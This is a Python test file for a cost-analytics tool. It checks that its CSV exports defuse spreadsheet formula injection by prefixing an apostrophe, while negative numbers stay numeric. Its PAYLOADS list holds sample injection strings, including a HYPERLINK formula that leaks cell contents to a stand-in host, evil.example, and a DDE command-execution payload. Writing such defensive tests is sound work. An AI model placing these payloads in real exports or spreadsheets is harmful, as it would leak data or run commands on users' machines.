"""Every CSV the product writes makes formula-leading text inert (OWASP CSV injection): tag values and
resource names from the data never run as formulas in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest

from analytics.csv_safety import csv_bytes, csv_text, inert
from analytics.rightsizing import report
from tests.app_fixtures import PROJECT, new_app
from tests.focus_rows import row, write_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+1",
    "\tindented=1",
    "\r=1+1",
    "=1+1",
    "-",
    "+",
    "@",
]
HARMLESS = ["web", "a=b", "1+1", "ops-team", " =lead space", "'quoted"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_leading_text_gets_an_apostrophe(payload: str) -> None:
    assert inert(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_text_that_cannot_start_a_formula_is_written_as_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("number", [-1.5, -0.01, 0.0, 12.0, -1e6])
def test_a_negative_number_in_a_numeric_column_stays_a_number(number: float) -> None:
    frame = pd.DataFrame({"ServiceName": ["-1.5"], "cost": [number]})
    back = list(csv.reader(io.StringIO(csv_text(frame))))
    assert back[1] == ["'-1.5", repr(number)]


def test_a_header_that_starts_like_a_formula_is_inert_too() -> None:
    assert csv_text(pd.DataFrame({"=1+1": [1]})).splitlines()[0] == "'=1+1"


def test_a_cell_with_a_line_break_stays_one_quoted_cell() -> None:
    back = list(csv.reader(io.StringIO(csv_bytes(pd.DataFrame({"a": ["x\ny", "=\r1"]})).decode("utf-8"))))
    assert back == [["a"], ["x\ny"], ["'=\r1"]]


def _exports(folder: Path) -> Path:
    rows = [
        row(ResourceName=payload, ResourceId=f"r{i}", Tags={"team": payload}, BilledCost=f"{i + 1}.25")
        for i, payload in enumerate(PAYLOADS)
    ]
    rows.append(row(ResourceName="credit", ResourceId="rc", Tags={"team": "web"}, BilledCost="-1.50"))
    return write_csv(folder / "hostile-names.csv", rows)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csvinj")
    db = folder / "names.duckdb"
    done = run("ingest", str(_exports(folder)), "--db", str(db))
    assert done.returncode == 0, done.stderr
    return db


def run(*args: str) -> subprocess.CompletedProcess[str]:
    """The command line's output as written: no newline translation, so a CR inside a cell survives."""
    done = subprocess.run([sys.executable, "-m", "analytics", *args], cwd=PROJECT, capture_output=True, timeout=300)
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())


@pytest.mark.slow
@pytest.mark.parametrize("dimension", ["tag:team", "ResourceName"])
def test_query_as_csv_writes_every_hostile_value_inert_and_keeps_the_totals(hostile_db: Path, dimension: str) -> None:
    done = run("query", "--group-by", dimension, "--metric", "billed", "--format", "csv", "--db", str(hostile_db))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    values = {r[dimension] for r in rows}
    assert {"'" + p for p in PAYLOADS} <= values
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
    costs = {r[dimension]: Decimal(r["cost"]) for r in rows}
    expected = {"'" + p: Decimal(f"{i + 1}.25") for i, p in enumerate(PAYLOADS)}
    assert {k: costs[k] for k in expected} == expected
    assert costs["web" if dimension == "tag:team" else "credit"] == Decimal("-1.5")  # a number, not text


def test_the_rightsizing_download_is_inert() -> None:
    frame = pd.DataFrame({"resource_id": PAYLOADS[:3]})
    text = report.safe_csv_bytes(frame).decode("utf-8")
    assert all(line.startswith(("'", "\"'", "resource_id")) for line in text.splitlines() if line)


def test_the_explore_download_is_inert(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ui import explore_view

    monkeypatch.setenv("FINOPS_DB", str(hostile_db))
    at = new_app({"group_by": "tag:team", "period": "forever"}).run()
    assert not at.exception, [e.value for e in at.exception]
    shown = at.dataframe[0].value
    back = list(csv.reader(io.StringIO(explore_view.csv_bytes(shown).decode("utf-8"), newline="")))
    cells = [c for r in back[1:] for c in r[:1]]
    assert {"'" + p for p in PAYLOADS} <= set(cells), cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_the_tables_built_in_csv_button_which_would_keep_formulas_is_turned_off() -> None:
    import tomllib

    config = tomllib.loads((Path(__file__).parents[1] / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
